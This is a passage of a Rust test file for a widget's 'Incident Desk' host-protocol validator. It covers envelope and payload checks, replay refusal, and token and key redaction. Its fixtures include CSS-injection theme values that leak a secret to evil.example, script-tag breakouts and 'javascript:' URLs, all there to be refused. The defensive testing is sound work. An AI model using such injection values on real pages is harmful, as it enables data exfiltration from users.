/// that is not part of the protocol; [`SECRET`] stands in two values and a key.
fn bad_configure(accent: Value) -> Value {
    json!({
        "agent_id": 42,
        "role": SECRET,
        "locale": SECRET,
        "z_index": -1,
        "theme": { "--idk-accent": accent },
        SECRET: true
    })
}

/// Checks the refusal of a [`bad_configure`] payload read at `at` (`$.payload` in a message, `$`
/// alone): a problem at the payload and at each wrong field, in order, and the words for the
/// command and the agent id. Gives back the refusal's text.
fn bad_configure_refused(rejection: &Rejection, at: &str) -> String {
    let under = |field: &str| format!("{at}.{field}");
    assert_eq!(
        paths_of(rejection),
        vec![
            at,
            &under("agent_id"),
            &under("role"),
            &under("locale"),
            &under("theme['--idk-accent']"),
            &under("z_index"),
        ]
    );
    let text = rejection.to_string();
    assert!(
        text.starts_with("The \"configure\" command was not acted on: "),
        "{text}"
    );
    assert!(
        text.contains(&format!("{at}.agent_id: must be text, not a number")),
        "{text}"
    );
    text
}

#[test]
fn an_invalid_payload_names_every_path_and_no_value() {
    let mut session = open();
    let text = message(&session, 2, "configure", bad_configure(json!(7)), None);
    let rejection = refused(&mut session, &text, "invalid_payload", true);
    let text = bad_configure_refused(&rejection, "$.payload");
    assert!(
        text.contains("$.payload.role: must be one of handler, supervisor, trainee, assessor"),
        "{text}"
    );
    assert!(
        text.contains("$.payload: has 1 field that is not part of the protocol here"),
        "{text}"
    );
}

#[test]
fn missing_fields_and_wrong_kinds_in_each_command_are_located() {
    let cases = [
        ("configure", json!({}), "$.payload.agent_id: is required"),
        (
            "configure",
            json!({ "agent_id": " ", "role": "handler" }),
            "$.payload.agent_id: must be 1 to 128 characters",
        ),
        (
            "configure",
            json!({ "agent_id": "a\u{202E}1", "role": "handler" }),
            "$.payload.agent_id: must be 1 to 128",
        ),
        (
            "context.set",
            json!({ "caller_number": SECRET }),
            "$.payload.caller_number: must be a telephone number",
        ),
        (
            "context.set",
            json!({ "call_id": "x".repeat(129) }),
            "$.payload.call_id: must be 1 to 128",
        ),
        (
            "pack.load",
            json!({ "url": 5 }),
            "$.payload.url: must be text, not a number",
        ),
        (
            "pack.load",
            json!({ "url": "javascript:alert('Secretperson')" }),
            "$.payload.url: only http and https",
        ),
        (
            "resources.update",
            json!({ "units": {} }),
            "$.payload.units: must be a list, not an object",
        ),
        (
            "resources.update",
            json!({ "units": [{ "id": "u1", "status": SECRET }] }),
            "$.payload.units[0].status: must be one of available, on_call, committed, off_duty",
        ),
        (
            "resources.update",
            json!({ "units": [{ "id": "u1", "status": "available" }, { "id": "u1", "status": "committed" }] }),
            "$.payload.units[1].id: is the same unit as $.payload.units[0]",
        ),
        (
            "resources.update",
            json!({ "units": [{ "id": "u1" }] }),
            "$.payload.units[0].status: is required",
        ),
        (
            "entry.ack",
            json!({ "key": SECRET }),
            "$.payload.key: must be an idempotency key",
        ),
        (
            "entry.nack",
            json!({ "key": KEY, "reason": "x" }),
            "$.payload.permanent: is required",
        ),
        (
            "entry.nack",
            json!({ "key": KEY, "reason": "x", "permanent": "yes" }),
            "$.payload.permanent: must be true or false, not text",
        ),
        (
            "teardown",
            json!({ "everything": SECRET }),
            "$.payload: takes no fields, but has 1",
        ),
    ];
    for (kind, payload, expected) in cases {
        let mut session = open();
        let text = message(&session, 2, kind, payload, None);
        let rejection = refused(&mut session, &text, "invalid_payload", true);
        assert!(
            rejection.to_string().contains(expected),
            "{kind}: {rejection}"
        );
    }
}

#[test]
fn the_wrong_protocol_or_version_is_refused_whole() {
    let mut session = open();
    let mut value = message_value(
        &session,
        2,
        "context.set",
        json!({ "caller_number": SECRET }),
        None,
    );
    value["protocol"] = json!("incident-desk-2");
    refused(&mut session, &value.to_string(), "wrong_protocol", true);
    value["protocol"] = json!("incident-desk");
    value["version"] = json!(2);
    let rejection = refused(
        &mut session,
        &value.to_string(),
        "unsupported_version",
        true,
    );
    assert!(rejection
        .to_string()
        .contains("protocol version 2; this widget speaks version 1"));
    value["version"] = json!("1");
    let rejection = refused(&mut session, &value.to_string(), "invalid_envelope", true);
    assert_eq!(rejection.problems()[0].path, "$.version");
}

#[test]
fn another_session_or_instance_is_refused() {
    let mut session = open();
    let mut value = message_value(
        &session,
        2,
        "context.set",
        json!({ "contact_ref": SECRET }),
        None,
    );
    let good = value.clone();
    value["session"] = json!("an-earlier-page");
    refused(&mut session, &value.to_string(), "wrong_session", true);
    let mut value = good.clone();
    value["instance"] = json!("desk-2");
    refused(&mut session, &value.to_string(), "wrong_instance", true);
    assert!(session.accept(&good.to_string()).is_ok());
}

#[test]
fn replayed_and_out_of_order_sequence_numbers_are_refused() {
    let mut session = open();
    let ack = |seq| message(&session, seq, "entry.ack", json!({ "key": KEY }), None);
    let (five, three, six) = (ack(5), ack(3), ack(6));
    session.accept(&five).unwrap();
    let rejection = refused(&mut session, &five, "stale_seq", true);
    assert_eq!(
        rejection.reason,
        RejectReason::StaleSequence { seq: 5, last: 5 }
    );
    let rejection = refused(&mut session, &three, "stale_seq", true);
    assert!(rejection
        .to_string()
        .contains("sequence number 3 is not after the last one accepted (5)"));
    session.accept(&six).unwrap();
    assert_eq!(session.last_accepted_seq(), 6);
}

#[test]
fn a_refused_payload_does_not_use_up_its_sequence_number() {
    let mut session = open();
    let bad = message(
        &session,
        2,
        "pack.load",
        json!({ "url": "//evil.example" }),
        None,
    );
    refused(&mut session, &bad, "invalid_payload", true);
    let corrected = message(
        &session,
        2,
        "pack.load",
        json!({ "url": "packs/a.json" }),
        None,
    );
    assert!(session.accept(&corrected).is_ok());
}

#[test]
fn commands_before_the_welcome_are_refused() {
    let (mut session, hello) = greeted();
    let configure = message(&session, 1, "configure", examples()[0].1.clone(), None);
    let rejection = refused(&mut session, &configure, "not_welcomed", true);
    assert!(rejection
        .to_string()
        .contains("\"configure\" command came before the handshake"));
    // A welcome that answers no hello of ours.
    let stray = message(
        &session,
        1,
        "welcome",
        json!({}),
        Some("someone-elses-hello"),
    );
    refused(&mut session, &stray, "uncorrelated_welcome", true);
    let bare = message(&session, 1, "welcome", json!({}), None);
    refused(&mut session, &bare, "uncorrelated_welcome", true);
    // Not even a correct welcome before the widget said hello.
    let mut silent = HostSession::new(instance(), 42);
    let early = message(&silent, 1, "welcome", json!({}), Some(hello.as_str()));
    refused(&mut silent, &early, "uncorrelated_welcome", true);
    // The real welcome, then a second one.
    let welcome = message(&session, 1, "welcome", json!({}), Some(hello.as_str()));
    session.accept(&welcome).unwrap();
    let again = message(&session, 2, "welcome", json!({}), Some(hello.as_str()));
    refused(&mut session, &again, "unexpected_welcome", true);
}

#[test]
fn nothing_is_accepted_after_teardown() {
    let mut session = open();
    session
        .accept(&message(&session, 2, "teardown", json!({}), None))
        .unwrap();
    assert_eq!(session.handshake(), Handshake::Ended);
    let after = message(
        &session,
        3,
        "context.set",
        json!({ "contact_ref": SECRET }),
        None,
    );
    refused(&mut session, &after, "session_ended", true);
}

#[test]
fn oversized_messages_are_refused_unread() {
    let mut session = open();
    let text = message(
        &session,
        2,
        "context.set",
        json!({ "contact_ref": format!("{SECRET} {}", "x".repeat(MAX_MESSAGE_BYTES)) }),
        None,
    );
    let rejection = refused(&mut session, &text, "too_large", false);
    assert!(
        rejection.to_string().contains("over the limit of 256.0 KB"),
        "{rejection}"
    );
}

#[test]
fn text_that_is_not_ours_is_refused_as_foreign() {
    let mut session = open();
    for text in [
        format!("{{\"caller\": \"{SECRET}\""),
        format!("\"{SECRET}\""),
        format!("{{\"source\": \"react-devtools\", \"data\": \"{SECRET}\"}}"),
        "[1, 2, 3]".to_owned(),
    ] {
        let rejection = session.accept(&text).unwrap_err();
        assert!(rejection.is_foreign(), "{rejection}");
        assert!(!rejection.to_string().contains("Secretperson"));
    }
    refused(&mut session, "{\"caller\": ", "not_json", false);
    refused(&mut session, "{\"a\": 1}", "foreign", false);
}

#[test]
fn envelope_problems_are_located_without_values() {
    let mut session = open();
    let mut value = message_value(&session, 2, "teardown", json!({}), None);
    value[SECRET] = json!(SECRET);
    value["seq"] = json!(0);
    value["correlation"] = json!(SECRET);
    let rejection = refused(&mut session, &value.to_string(), "invalid_envelope", true);
    assert_eq!(paths_of(&rejection), vec!["$", "$.correlation", "$.seq"]);
    let mut value = message_value(&session, 2, "teardown", json!({}), None);
    value["id"] = json!(SECRET);
    value["seq"] = json!(MAX_SEQ + 1);
    value["payload"] = json!([SECRET]);
    let rejection = refused(&mut session, &value.to_string(), "invalid_envelope", false);
    assert_eq!(paths_of(&rejection), vec!["$.id", "$.seq", "$.payload"]);
}

#[test]
fn theme_values_that_try_css_injection_are_refused() {
    let hostile = [
        format!("red; background: url(https://evil.example/?{SECRET})"),
        format!("}}</style><script>{SECRET}</script>"),
        format!("expression(alert('{SECRET}'))"),
        "url(https://evil.example/x.png)".to_owned(),
        "URL(https://evil.example/x.png)".to_owned(),
        format!("image-set(\"https://evil.example/{SECRET}.png\" 1x)"),
        "\"url(x)\"".to_owned(),
        "u\\72l(https://evil.example)".to_owned(),
        "red !important".to_owned(),
        "@import 'x'".to_owned(),
        "var(--idk-x) { color: red }".to_owned(),
        "attr(data-secret)".to_owned(),
        "paint(worklet)".to_owned(),
        "rgb(0 0 0".to_owned(),
        "\"Inter".to_owned(),
        "red\u{0}".to_owned(),
        " ".to_owned(),
        "a".repeat(201),
    ];
    for value in hostile {
        let mut session = open();
        let text = message(
            &session,
            2,
            "configure",
            json!({ "agent_id": "a1", "role": "handler", "theme": { "--idk-accent": value } }),
            None,
        );
        let rejection = refused(&mut session, &text, "invalid_payload", true);
        assert_eq!(
            rejection.problems()[0].path,
            "$.payload.theme['--idk-accent']",
            "{value}: {rejection}"
        );
    }
    for name in [
        "--evil",
        "--idk-",
        "--IDK-accent",
        "--idk-accent;",
        "--idk--x",
        SECRET,
    ] {
        let mut session = open();
        let text = message(
            &session,
            2,
            "configure",
            json!({ "agent_id": "a1", "role": "handler", "theme": { name: "red" } }),
            None,
        );
        let rejection = refused(&mut session, &text, "invalid_payload", true);
        assert_eq!(rejection.problems()[0].path, "$.payload.theme", "{name}");
    }
    // Colours, lengths, fonts and arithmetic are fine.
    let theme = Theme::from_pairs([
        ("--idk-accent", "rgb(11 95 255 / 80%)"),
        ("--idk-gap", "clamp(4px, 1vw, 12px)"),
        ("--idk-font", "'Noto Sans', system-ui"),
        ("--idk-shadow", "0 1px 2px hsl(220 10% 10% / 0.2)"),
    ])
    .unwrap();
    assert_eq!(theme.properties().len(), 4);
}

#[test]
fn insecure_or_malformed_endpoints_are_refused() {
    for (endpoint, expected) in [
        ("http://crm.example/api", "must use https"),
        ("ftp://crm.example/api", "only http and https"),
        ("javascript:alert(1)", "only http and https"),
        ("/api/incident-log", "must be absolute"),
        ("https://crm.example/api#x", "#fragment"),
        ("https://crm.example/api path", "spaces"),
    ] {
        let mut session = open();
        let text = message(
            &session,
            2,
            "configure",
            json!({ "agent_id": "a1", "role": "handler", "endpoint": endpoint }),
            None,
        );
        let rejection = refused(&mut session, &text, "invalid_payload", true);
        assert_eq!(rejection.problems()[0].path, "$.payload.endpoint");
        assert!(
            rejection.to_string().contains(expected),
            "{endpoint}: {rejection}"
        );
    }
}

#[test]
fn the_z_index_stays_within_css_integers() {
    for (z, ok) in [
        (json!(0), true),
        (json!(2147483647), true),
        (json!(2147483648u64), false),
        (json!(-5), false),
        (json!(1.5), false),
        (json!("10"), false),
    ] {
        let mut session = open();
        let text = message(
            &session,
            2,
            "configure",
            json!({ "agent_id": "a1", "role": "handler", "z_index": z }),
            None,
        );
        assert_eq!(session.accept(&text).is_ok(), ok, "{z}");
    }
}

#[test]
fn a_teardown_that_could_not_erase_is_an_error_answering_the_teardown_never_a_done() {
    let mut session = open();
    let teardown = message(&session, 2, "teardown", json!({}), None);
    let accepted = session.accept(&teardown).unwrap();
    let event =
        HostEvent::teardown_failed("storage: cannot write: UnknownError: The disk is failing.");
    assert_eq!(event.type_name(), "error");
    let answer = session.reply(event, &accepted.id);
    let value = answer.to_value();
    assert_eq!(value["correlation"], "host-2");
    let payload = &value["payload"];
    assert_eq!(payload["code"], "teardown_failed");
    assert_eq!(payload["problems"], json!([]));
    let message = payload["message"].as_str().unwrap();
    // What failed and why, in the browser's words; what was dropped all the same; what to do.
    for said in [
        "could not erase",
        "The disk is failing",
        "signed out",
        "endpoint",
        "token",
        "storage key",
        "may still hold",
        "teardown again",
    ] {
        assert!(message.contains(said), "{said} in {message}");
    }
}

#[test]
fn every_error_code_is_in_the_schema() {
    let schema: Value = serde_json::from_str(&protocol_schema_json()).unwrap();
    let listed: Vec<&str> = schema["$defs"]["ErrorReport"]["properties"]["code"]["enum"]
        .as_array()
        .expect("the error codes are listed")
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    let problem = || FieldProblem {
        path: "$.payload".to_owned(),
        message: "is wrong".to_owned(),
    };
    let refusals = [
        RejectReason::TooLarge { bytes: 2, limit: 1 },
        RejectReason::NotJson { line: 1, column: 1 },
        RejectReason::Foreign,
        RejectReason::WrongProtocol,
        RejectReason::UnsupportedVersion { found: 2 },
        RejectReason::InvalidEnvelope {
            problems: vec![problem()],
        },
        RejectReason::UnknownType,
        RejectReason::WrongSession,
        RejectReason::WrongInstance,
        RejectReason::NotWelcomed {
            command: "configure",
        },
        RejectReason::UnexpectedWelcome,
        RejectReason::UncorrelatedWelcome,
        RejectReason::StaleSequence { seq: 1, last: 1 },
        RejectReason::InvalidPayload {
            command: "configure",
            problems: vec![problem()],
        },
        RejectReason::EndpointNotAllowed { problem: problem() },
        RejectReason::SessionEnded,
        RejectReason::NoHandshake,
    ];
    for reason in refusals {
        let code = Rejection {
            reason,
            correlation: None,
        }
        .code();
        assert!(listed.contains(&code), "{code} is not in the schema");
    }
    let HostEvent::Error(failed) = HostEvent::teardown_failed("storage: cannot write") else {
        panic!("not an error");
    };
    assert!(listed.contains(&failed.code.as_str()));
    // element.js's own, for a custom element whose attributes could not be mounted.
    assert!(listed.contains(&"invalid_options"));
}

// ---------------------------------------------------------------------------------------------
// The published schema
// ---------------------------------------------------------------------------------------------

#[test]
fn the_schema_describes_both_directions() {
    let text = protocol_schema_json();
    assert!(text.ends_with("}\n"));
    let schema: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(schema["title"], "Incident Desk host protocol, version 1");
    let defs = &schema["$defs"];
    for name in ["HostCommandMessage", "HostEventMessage"] {
        let envelope = &defs[name];
        assert_eq!(envelope["properties"]["protocol"]["const"], "incident-desk");
        assert_eq!(envelope["unevaluatedProperties"], false);
    }
    let types = |name: &str| -> Vec<String> {
        defs[name]["oneOf"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| {
                v["properties"]["type"]["const"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            })
            .collect()
    };
    assert_eq!(
        types("HostCommandMessage"),
        [
            "welcome",
            "configure",
            "context.set",
            "pack.load",
            "resources.update",
            "notices.set",
            "entry.ack",
            "entry.nack",
            "incident.open",
            "incident.report",
            "incident.ack",
            "review.add",
            "history.set",
            "teardown"
        ]
    );
    assert_eq!(
        types("HostEventMessage"),
        [
            "hello",
            "ready",
            "pack.loaded",
            "pack.error",
            "call.started",
            "call.resumed",
            "escalation.required",
            "entry.completed",
            "entry.delivered",
            "delivery.sign_in_needed",
            "outbox.status",
            "resize",
            "error",
            "incident.opened",
            "incident.tasked",
            "incident.changed",
            "incident.closed",
            "review.decided",
            "teardown.done"
        ]
    );
    // The schema's outbox.status fields are those OutboxStatus serialises.
    let status = serde_json::to_value(OutboxStatus {
        pending: 0,
        in_flight: 0,
        dead_letters: 0,
        delivered: 0,
        oldest_pending_age_ms: None,
        overdue: 0,
    })
    .unwrap();
    let mut serialised: Vec<&String> = status.as_object().unwrap().keys().collect();
    let mut described: Vec<&String> = defs["OutboxStatus"]["properties"]
        .as_object()
        .unwrap()
        .keys()
        .collect();
    serialised.sort();
    described.sort();
    assert_eq!(serialised, described);
}

// ---------------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------------

// ---------------------------------------------------------------------------------------------
// Commands without an envelope (the custom element's `command(name, payload)`)

#[test]
fn a_bare_command_is_read_as_the_same_command_in_a_message() {
    let mut session = open();
    for (seq, (kind, payload)) in (2..).zip(examples()) {
        let bare =
            read_bare_command(kind, &payload.to_string()).unwrap_or_else(|e| panic!("{kind}: {e}"));
        let inbound = session
            .accept(&message(&session, seq, kind, payload, None))
            .unwrap();
        assert_eq!(bare, inbound.body, "{kind}");
    }
}

#[test]
fn a_bare_command_with_a_bad_payload_names_every_path_from_the_payload_and_no_value() {
    let payload = bad_configure(json!(format!("url(\"{SECRET}\")")));
    let rejection = read_bare_command("configure", &payload.to_string()).unwrap_err();
    assert_eq!(rejection.code(), "invalid_payload");
    assert_eq!(rejection.correlation, None);
    let text = bad_configure_refused(&rejection, "$");
    assert!(
        text.contains("$.theme['--idk-accent']: uses url()"),
        "{text}"
    );
    for part in SECRET.split(' ') {
        assert!(!text.contains(part), "the refusal repeats {part:?}: {text}");
    }
    // The `error` event's payload for the host: code, message and problems.
    let error: Value = serde_json::from_str(&HostEvent::error(&rejection).payload_json()).unwrap();
    assert_eq!(error["code"], "invalid_payload");
    assert_eq!(error["message"], text);
    assert_eq!(error["problems"][4]["path"], "$.theme['--idk-accent']");
}

#[test]
fn a_bare_command_of_no_known_type_or_not_json_or_too_large_is_refused() {
    let cases = [
        ("configure.all", "{}".to_owned(), "unknown_type"),
        (SECRET, "{}".to_owned(), "unknown_type"),
        ("welcome", "{}".to_owned(), "no_handshake"),
        ("teardown", "{\"a\":".to_owned(), "not_json"),
        ("teardown", "[]".to_owned(), "invalid_payload"),
        ("teardown", "null".to_owned(), "invalid_payload"),
        ("entry.ack", "{}".to_owned(), "invalid_payload"),
        (
            "context.set",
            format!("{{\"call_id\":\"{}\"}}", "x".repeat(MAX_MESSAGE_BYTES)),
            "too_large",
        ),
    ];
    for (kind, payload, code) in cases {
        let rejection = read_bare_command(kind, &payload).expect_err(code);
        assert_eq!(rejection.code(), code, "{kind}: {rejection}");
        assert!(!rejection.to_string().contains("Secretperson"));
    }
    let rejection = read_bare_command("welcome", "{}").unwrap_err();
    assert_eq!(rejection.reason, RejectReason::NoHandshake);
    let rejection = read_bare_command("entry.ack", "{}").unwrap_err();
    assert_eq!(rejection.problems()[0].path, "$.key");
    assert_eq!(
        rejection.to_string(),
        "The \"entry.ack\" command was not acted on: $.key: is required."
    );
}

#[test]
fn an_event_payload_is_the_message_payload() {
    let key = IdempotencyKey::parse(KEY).unwrap();
    let entry = LogEntry::of(&council(), &Call::open(&council(), "agent-7", 1_000));
    let events = [
        HostEvent::ready(),
        HostEvent::entry_completed(&key, &entry),
        HostEvent::error(&read_bare_command("welcome", "{}").unwrap_err()),
    ];
    let mut session = open();
    for event in events {
        let payload: Value = serde_json::from_str(&event.payload_json()).unwrap();
        let message = as_json(&session.send(event.clone()));
        assert_eq!(payload, message["payload"], "{}", event.type_name());
    }
    let completed: Value =
        serde_json::from_str(&HostEvent::entry_completed(&key, &entry).payload_json()).unwrap();
    assert_eq!(completed["key"], KEY);
    assert_eq!(completed["entry"]["handler"], "agent-7");
}

fn arb_json() -> impl Strategy<Value = Value> {
    let words = prop::sample::select(vec![
        "incident-desk",
        "welcome",
        "configure",
        "entry.ack",
        "--idk-accent",
        "url(x)",
        "https://crm.example",
        "//evil.example",
        "0b9e2c7a-4d1f-4c3e-9a8b-1f2e3d4c5b6a",
        "available",
        "handler",
        "",
    ]);
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        ".{0,24}".prop_map(Value::String),
        words.prop_map(|w| Value::String(w.to_owned())),
    ];
    let keys = prop_oneof![
        prop::sample::select(vec![
            "protocol",
            "version",
            "id",
            "correlation",
            "session",
            "instance",
            "seq",
            "type",
            "payload",
            "agent_id",
            "role",
            "theme",
            "units",
            "status",
            "key",
            "url",
        ])
        .prop_map(str::to_owned),
        ".{0,8}",
    ];
    leaf.prop_recursive(4, 48, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::btree_map(keys.clone(), inner, 0..6)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

/// Offers `text` to an open session: either a command or a refusal; a refusal changes nothing
/// and its error event is JSON.
fn offer(session: &mut HostSession, text: &str) -> Result<Inbound, Rejection> {
    let before = session.clone();
    let result = session.accept(text);
    match &result {
        Ok(inbound) => assert_eq!(session.last_accepted_seq(), inbound.seq),
        Err(rejection) => {
            assert_eq!(*session, before);
            let error: Value = serde_json::from_str(&session.error_event(rejection).to_json())
                .expect("the error event is JSON");
            assert_eq!(error["type"], "error");
        }
    }
    // The stateless reading agrees on what is readable at all.
    let _ = Inbound::parse(text);
    result
}

proptest! {
    #[test]
    fn any_text_is_a_command_or_a_refusal(text in ".{0,300}", bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let mut session = open();
        let _ = offer(&mut session, &text);
        let _ = offer(&mut session, &String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn any_json_is_a_command_or_a_refusal(value in arb_json()) {
        let mut session = open();
        let _ = offer(&mut session, &value.to_string());
    }

    /// Any payload under any of the command names, bare, is a command or a refusal, never a
    /// panic.
    #[test]
    fn any_bare_command_is_a_command_or_a_refusal(
        kind in prop::sample::select(vec!["configure", "context.set", "pack.load", "resources.update", "entry.ack", "entry.nack", "teardown", "welcome", "nope"]),
        value in arb_json(),
    ) {
        let _ = read_bare_command(kind, &value.to_string());
    }

    /// Whatever a theme value holds, it is checked without a panic, and a value that passes
    /// cannot end its declaration, open markup or load anything.
    #[test]
    fn theme_values_that_pass_cannot_inject(value in r#"[a-z0-9 #.,%+*/()"'_;{}<>\\@!-]{0,40}|.{0,20}"#) {
        if Theme::from_pairs([("--idk-x", value.as_str())]).is_ok() {
            let lower = value.to_ascii_lowercase();
            for forbidden in [";", "{", "}", "<", "\\", "url(", "expression(", "image-set(", "/*"] {
                prop_assert!(!lower.contains(forbidden), "{:?} passed", value);
            }
        }
    }

    /// A valid message with one field, in the envelope or the payload, replaced by anything.
    #[test]
    fn mutated_messages_are_a_command_or_a_refusal(
        example in 0..7usize,
        in_payload in any::<bool>(),
        field in prop::sample::select(vec![
            "protocol", "version", "id", "correlation", "session", "instance", "seq", "type",
            "payload", "agent_id", "role", "locale", "theme", "z_index", "endpoint", "call_id",
            "caller_number", "url", "units", "key", "reason", "permanent", "extra",
        ]),
        replacement in arb_json(),
    ) {
        let mut session = open();
        let (kind, payload) = examples().swap_remove(example);
        let mut value = message_value(&session, 2, kind, payload, None);
        if in_payload {
            if let Some(p) = value["payload"].as_object_mut() {
                p.insert(field.to_owned(), replacement);
            }
        } else {
            value[field] = replacement;
        }
        let _ = offer(&mut session, &value.to_string());
    }

    /// Any delivery of a stream (replays, duplicates, reorderings) accepts a message exactly
    /// when its seq is greater than every seq accepted before it.
    #[test]
    fn each_sequence_number_is_accepted_at_most_once_and_in_order(
        gaps in prop::collection::vec(1..4u64, 1..30),
        order in prop::collection::vec(any::<prop::sample::Index>(), 0..80),
    ) {
        let mut session = open();
        let mut seq = 1;
        let stream: Vec<(u64, String)> = gaps
            .iter()
            .map(|gap| {
                seq += gap;
                (seq, message(&session, seq, "entry.ack", json!({ "key": KEY }), None))
            })
            .collect();
        let mut last = 1;
        let mut accepted = Vec::new();
        for index in order {
            let (seq, text) = &stream[index.index(stream.len())];
            let result = offer(&mut session, text);
            prop_assert_eq!(result.is_ok(), *seq > last, "seq {} after {}", seq, last);
            if let Ok(inbound) = result {
                accepted.push(inbound.seq);
                last = *seq;
            }
        }
        prop_assert!(accepted.windows(2).all(|w| w[0] < w[1]), "{:?}", accepted);
    }

    /// The stream in order with replays of earlier messages mixed in: every message is accepted
    /// once, every replay refused.
    #[test]
    fn replays_mixed_into_a_stream_are_refused_and_the_stream_is_whole(
        length in 1..30usize,
        replays in prop::collection::vec((any::<prop::sample::Index>(), any::<prop::sample::Index>()), 0..30),
    ) {
        let mut session = open();
        let stream: Vec<String> = (0..length)
            .map(|i| message(&session, i as u64 + 2, "entry.ack", json!({ "key": KEY }), None))
            .collect();
        // replays[k] = (after which message, which earlier one to repeat)
        let mut accepted = Vec::new();
        for (i, text) in stream.iter().enumerate() {
            accepted.push(offer(&mut session, text).map(|m| m.seq));
            for (after, which) in &replays {
                if after.index(length) == i {
                    let earlier = which.index(i + 1);
                    let again = offer(&mut session, &stream[earlier]);
                    prop_assert_eq!(again.map_err(|r| r.code()), Err("stale_seq"));
                }
            }
        }
        let expected: Vec<Result<u64, Rejection>> = (0..length).map(|i| Ok(i as u64 + 2)).collect();
        prop_assert_eq!(accepted, expected);
    }
}

#[test]
fn configure_takes_the_name_callers_hear_and_refuses_a_bad_one() {
    let read = |payload: serde_json::Value| read_bare_command("configure", &payload.to_string());
    match read(json!({ "agent_id": "agent-7", "agent_name": "Sam", "role": "handler" })) {
        Ok(HostCommand::Configure(c)) => {
            assert_eq!(c.agent_id, "agent-7");
            assert_eq!(c.agent_name.as_deref(), Some("Sam"));
        }
        other => panic!("{other:?}"),
    }
    match read(json!({ "agent_id": "agent-7", "role": "handler" })) {
        Ok(HostCommand::Configure(c)) => assert_eq!(c.agent_name, None),
        other => panic!("{other:?}"),
    }
    for bad in [json!(""), json!(7), json!("x".repeat(129))] {
        let rejection =
            read(json!({ "agent_id": "a", "agent_name": bad, "role": "handler" })).unwrap_err();
        assert_eq!(paths_of(&rejection), ["$.agent_name"], "{bad}");
    }
}

// ---------------------------------------------------------------------------------------------
// The bearer token in configure
// ---------------------------------------------------------------------------------------------

const TOKEN: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZ2VudC0wMDQyIn0.c2lnbmF0dXJl-_~+/==";

fn configure_with_token(token: Value) -> Result<HostCommand, Rejection> {
    read_bare_command(
        "configure",
        &json!({
            "agent_id": "agent-0042",
            "role": "handler",
            "endpoint": "https://crm.example/api/incident-log",
            "token": token
        })
        .to_string(),
    )
}

#[test]
fn configure_takes_a_bearer_token_and_gives_it_only_as_a_header() {
    let Ok(HostCommand::Configure(configure)) = configure_with_token(json!(TOKEN)) else {
        panic!("configure with a token is read");
    };
    let token = configure.token.clone().expect("a token");
    assert_eq!(token.as_header_value(), format!("Bearer {TOKEN}"));
    assert_eq!(token, BearerToken::parse(TOKEN).unwrap());
    // Absent or null: none.
    let Ok(HostCommand::Configure(without)) = configure_with_token(Value::Null) else {
        panic!("configure without a token is read");
    };
    assert_eq!(without.token, None);
}

#[test]
fn a_bearer_token_is_never_printed_or_serialised_in_clear() {
    let Ok(command) = configure_with_token(json!(TOKEN)) else {
        panic!("configure with a token is read");
    };
    let debug = format!("{command:?}");
    assert!(!debug.contains("eyJ"), "{debug}");
    assert!(debug.contains("BearerToken(…redacted…)"), "{debug}");
    let serialised = serde_json::to_string(&command).unwrap();
    assert!(!serialised.contains("eyJ"), "{serialised}");
    assert!(
        serialised.contains("\"token\":\"[redacted]\""),
        "{serialised}"
    );
    // A message made from it carries no token either, and "[redacted]" cannot pass for one.
    let mut session = open();
    let text = message(
        &session,
        2,
        "configure",
        json!({
            "agent_id": "agent-0042", "role": "handler", "token": TOKEN
        }),
        None,
    );
    let accepted = session.accept(&text).unwrap();
    let again = accepted.to_json();
    assert!(!again.contains("eyJ"), "{again}");
    let rejection = Inbound::parse(&again).unwrap_err();
    assert_eq!(rejection.problems()[0].path, "$.payload.token");
}

#[test]
fn a_malformed_token_is_refused_at_its_path_without_repeating_it() {
    for bad in [
        json!(""),
        json!("Bearer eyJhbGciOiJIUzI1NiJ9"),
        json!("secret\"token"),
        json!("=abc"),
        json!("abc=def"),
        json!("tökén"),
        json!("x".repeat(4_097)),
        json!(42),
    ] {
        let rejection = configure_with_token(bad.clone()).unwrap_err();
        let problems = rejection.problems();
        assert_eq!(problems.len(), 1, "{bad}");
        assert_eq!(problems[0].path, "$.token", "{bad}");
        let text = rejection.to_string();
        assert!(!text.contains("secret") && !text.contains("eyJ"), "{text}");
    }
    assert!(BearerToken::parse(&"x".repeat(4_096)).is_some());
    assert!(BearerToken::parse("abc==").is_some());
}

#[test]
fn the_schema_describes_the_token_as_write_only_text() {
    let schema: Value = serde_json::from_str(&protocol_schema_json()).unwrap();
    let token = &schema["$defs"]["BearerToken"];
    assert_eq!(token["type"], "string");
    assert_eq!(token["writeOnly"], true);
    assert_eq!(token["maxLength"], 4096);
}

// ---------------------------------------------------------------------------------------------
// The storage key in configure (encryption at rest)
// ---------------------------------------------------------------------------------------------

/// 32 bytes, 0 to 31, as base64.
const STORAGE_KEY: &str = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";

fn configure_with_key(key: Value) -> Result<HostCommand, Rejection> {
    read_bare_command(
        "configure",
        &json!({ "agent_id": "agent-0042", "role": "handler", "storage_key": key }).to_string(),
    )
}

#[test]
fn configure_takes_a_storage_key_of_32_bytes_and_never_shows_it() {
    let Ok(command) = configure_with_key(json!(STORAGE_KEY)) else {
        panic!("configure with a storage key is read");
    };
    let HostCommand::Configure(configure) = &command else {
        panic!("a configure");
    };
    let key = configure.storage_key.clone().expect("a key");
    let expected: Vec<u8> = (0..32).collect();
    assert_eq!(key.bytes().as_slice(), expected.as_slice());
    // URL-safe and unpadded are the same key.
    assert_eq!(
        StorageKey::parse("AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8"),
        Some(key)
    );
    let debug = format!("{command:?}");
    assert!(
        debug.contains("StorageKey(…redacted…)") && !debug.contains("AAEC"),
        "{debug}"
    );
    let serialised = serde_json::to_string(&command).unwrap();
    assert!(
